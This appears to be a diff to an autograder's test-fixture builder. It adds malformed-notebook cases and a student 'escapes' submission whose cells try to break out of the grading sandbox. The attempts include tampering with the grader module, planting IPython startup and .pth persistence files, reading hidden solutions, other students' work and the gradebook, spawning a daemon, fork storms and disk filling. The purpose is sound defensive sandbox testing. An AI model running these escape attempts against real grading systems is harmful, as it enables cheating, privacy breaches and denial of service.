@@ -68,6 +68,8 @@ EXPECTED = {
     "warns_on_stderr": ("graded", 3, 4),                           # 28
     "missing": ("missing", 0, 0),                                  # 29 (an empty folder)
     "xss_output": ("graded", 3, 4),                                # 30
+    "deep_nesting": ("invalid_notebook", 0, 0),                    # 10 (100 000-deep JSON lists)
+    "cells_not_objects": ("invalid_notebook", 0, 0),               # 11 (valid JSON, wrong structure)
 }
 
 
@@ -231,8 +233,130 @@ def build() -> dict[str, object]:
     c["xss_output"] = solved(square=SQUARE_OK + "\nfrom IPython.display import HTML, Javascript, display\n"
                                     "display(HTML('<script>alert(1)</script><b onmouseover=alert(2)>hi</b>'))\n"
                                     "display(Javascript('alert(3)'))\nprint('<script>alert(4)</script>')")
+    c["deep_nesting"] = b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+    c["cells_not_objects"] = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [1, "two", [3]]}
     assert set(c) == set(EXPECTED), set(c) ^ set(EXPECTED)
     return c
+
+
+# ---------------------------------------------------------------- escapes (tests/grading/test_sandbox.py)
+# One submission that tries every way out of the grader, one cell each. Every cell prints one line
+# ``ESCAPE|<name>|<what it got>`` with evidence that cannot be produced without the escape (a secret
+# read from a file, a count of forks or bytes); the test checks the host side as well (files,
+# processes, a TCP server). Targets come from the environment (a student who knows the paths):
+# ESCAPE_TOKEN, ESCAPE_COURSE (course root), ESCAPE_RUNTIME (autograder runtime), ESCAPE_HOME
+# (the instructor's home), ESCAPE_PORT (a server on 127.0.0.1), ESCAPE_FORKS, ESCAPE_FILL_MB,
+# ESCAPE_ATTACK_VENV (only set inside the sandbox: adds a .pth file to site-packages).
+ESCAPE_PRELUDE = """import glob, os, socket, subprocess, sys, time
+E = os.environ
+TOKEN = E.get("ESCAPE_TOKEN", "no-token")
+def report(name, ok, detail):
+    print(f"ESCAPE|{name}|{'SUCCEEDED' if ok else 'blocked'}|{str(detail)[:2000]}")"""
+
+ESCAPES = {
+    "checks_py": """import dlcourse.checks
+try:
+    with open(dlcourse.checks.__file__, "a") as f:
+        f.write("\\n# appended by a submission " + TOKEN + "\\n")
+    report("checks_py", True, dlcourse.checks.__file__)
+except OSError as exc:
+    report("checks_py", False, exc)""",
+    "ipython_startup": """done = []
+for home in {os.path.expanduser("~"), E.get("ESCAPE_HOME", "")} - {""}:
+    try:
+        d = os.path.join(home, ".ipython", "profile_default", "startup")
+        os.makedirs(d, exist_ok=True)
+        with open(os.path.join(d, "x.py"), "w") as f:
+            f.write("print('INJECTED " + TOKEN + "')\\n")
+        done.append(d)
+    except OSError as exc:
+        report("ipython_startup", False, exc)
+report("ipython_startup", bool(done), done)""",
+    "solutions_via_proc": """leaked = []
+for cwd in glob.glob("/proc/[0-9]*/cwd") + [E.get("ESCAPE_COURSE", "/nonexistent")]:
+    for path in glob.glob(os.path.join(cwd, "solutions", "*", "*.ipynb")):
+        try:
+            text = open(path, errors="ignore").read()
+        except OSError:
+            continue
+        leaked += [line.strip() for line in text.splitlines() if "(hidden)" in line][:1]
+report("solutions_via_proc", bool(leaked), sorted(set(leaked))[:10])""",
+    "daemon": """subprocess.run(["setsid", "sh", "-c", f"{sys.executable} -c 'import time; time.sleep(300)' {TOKEN}-daemon >/dev/null 2>&1 &"])
+time.sleep(0.5)
+alive = [p for p in glob.glob("/proc/[0-9]*/cmdline") if TOKEN + "-daemon" in open(p, errors="ignore").read()]
+report("daemon", bool(alive), f"{len(alive)} started")""",
+    "write_outside": """written = []
+for folder in (E.get("ESCAPE_COURSE"), E.get("ESCAPE_RUNTIME"), "/tmp", os.path.dirname(os.getcwd())):
+    try:
+        with open(os.path.join(folder, f"pwned_{TOKEN}.txt"), "w") as f:
+            f.write("pwned")
+        written.append(folder)
+    except (OSError, TypeError) as exc:
+        pass
+report("write_outside", bool(written), written)""",
+    "other_student": """secrets = []
+for path in glob.glob(os.path.join(E.get("ESCAPE_RUNTIME", "/nonexistent"), "submitted", "*", "*", "*.ipynb")):
+    text = open(path, errors="ignore").read()
+    secrets += [w for w in text.replace('"', ' ').split() if w.startswith("OTHER-SECRET-")]
+report("other_student", bool(secrets), secrets[:1])""",
+    "gradebook": """found = ""
+try:
+    data = open(os.path.join(E.get("ESCAPE_RUNTIME", "/nonexistent"), "gradebook.db"), "rb").read()
+    i = data.find(b"(hidden)")
+    found = data[max(0, i - 40):i + 8].decode(errors="ignore") if i >= 0 else f"{len(data)} bytes, no hidden test"
+    report("gradebook", i >= 0, found)
+except OSError as exc:
+    report("gradebook", False, exc)""",
+    "network": """try:
+    with socket.create_connection(("127.0.0.1", int(E.get("ESCAPE_PORT", "9"))), timeout=3) as s:
+        s.sendall(TOKEN.encode())
+    report("network", True, "connected and sent the token")
+except OSError as exc:
+    report("network", False, exc)""",
+    "fork_storm": """n, err, pids = 0, "", []
+for _ in range(int(E.get("ESCAPE_FORKS", "100"))):
+    try:
+        pid = os.fork()
+    except OSError as exc:
+        err = exc
+        break
+    if pid == 0:
+        time.sleep(2)
+        os._exit(0)
+    pids.append(pid)
+for pid in pids:
+    os.waitpid(pid, 0)
+report("fork_storm", not err, f"forked {len(pids)} {err}")""",
+    "fill_disk": """target, written, err = int(E.get("ESCAPE_FILL_MB", "200")), 0, ""
+block = b"\\0" * 2**20
+try:
+    for i in range(target // 16 + 1):
+        with open(f"fill{i}.bin", "wb") as f:
+            for _ in range(16):
+                if written >= target:
+                    break
+                f.write(block)
+                f.flush()
+                written += 1
+except OSError as exc:
+    err = exc
+for path in glob.glob("fill*.bin"):
+    os.remove(path)
+report("fill_disk", written >= target, f"wrote {written} MB {err}")""",
+    "site_packages": """import sysconfig
+if E.get("ESCAPE_ATTACK_VENV") == "1":
+    try:
+        with open(os.path.join(sysconfig.get_paths()["purelib"], f"zz_{TOKEN}.pth"), "w") as f:
+            f.write("import os\\n")
+        report("site_packages", True, "wrote a .pth file")
+    except OSError as exc:
+        report("site_packages", False, exc)""",
+}
+
+
+def escape_notebook() -> dict:
+    """The escapes submission: a correct solution (3 / 4 points) plus one cell per escape."""
+    return insert_after(solved(), "square", ESCAPE_PRELUDE, *ESCAPES.values())
 
 
 def files(cases: dict[str, object]) -> dict[str, bytes]:
